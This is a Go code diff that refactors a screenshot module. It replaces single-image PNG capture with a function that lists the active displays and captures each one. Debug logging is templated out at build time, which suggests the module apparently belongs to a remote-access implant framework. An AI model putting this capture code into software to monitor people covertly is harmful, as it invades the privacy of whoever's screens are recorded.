@@ -19,48 +19,29 @@ package screen
 */
 
 import (
-	"bytes"
-	"image/png"
-
 	//{{if .Config.Debug}}
 	"log"
 	//{{end}}
+
 	screen "github.com/kbinani/screenshot"
 )
 
-//Screenshot - Retrieve the screenshot of the active displays
-func Screenshot() []byte {
-	return LinuxCapture()
-}
-
-// LinuxCapture - Retrieve the screenshot of the active displays
-func LinuxCapture() []byte {
-	nDisplays := screen.NumActiveDisplays()
-
-	var height, width int = 0, 0
-	for i := 0; i < nDisplays; i++ {
-		rect := screen.GetDisplayBounds(i)
-		if rect.Dy() > height {
-			height = rect.Dy()
+// capture - The active displays, and their screenshots if images is set
+func capture(images bool) ([]display, error) {
+	displays := []display{}
+	for index := 0; index < screen.NumActiveDisplays(); index++ {
+		active := display{bounds: screen.GetDisplayBounds(index)}
+		if images {
+			img, err := screen.CaptureRect(active.bounds)
+			if err != nil {
+				//{{if .Config.Debug}}
+				log.Printf("Error capturing display %d: %s", index, err)
+				//{{end}}
+				return nil, err
+			}
+			active.img = img
 		}
-		width += rect.Dx()
+		displays = append(displays, active)
 	}
-	img, err := screen.Capture(0, 0, width, height)
-
-	if err != nil {
-		//{{if .Config.Debug}}
-		log.Printf("Error Capture: %s", err)
-		//{{end}}
-	}
-
-	var buf bytes.Buffer
-	if err != nil {
-		//{{if .Config.Debug}}
-		log.Println("Capture Error")
-		//{{end}}
-		return buf.Bytes()
-	}
-
-	png.Encode(&buf, img)
-	return buf.Bytes()
+	return displays, nil
 }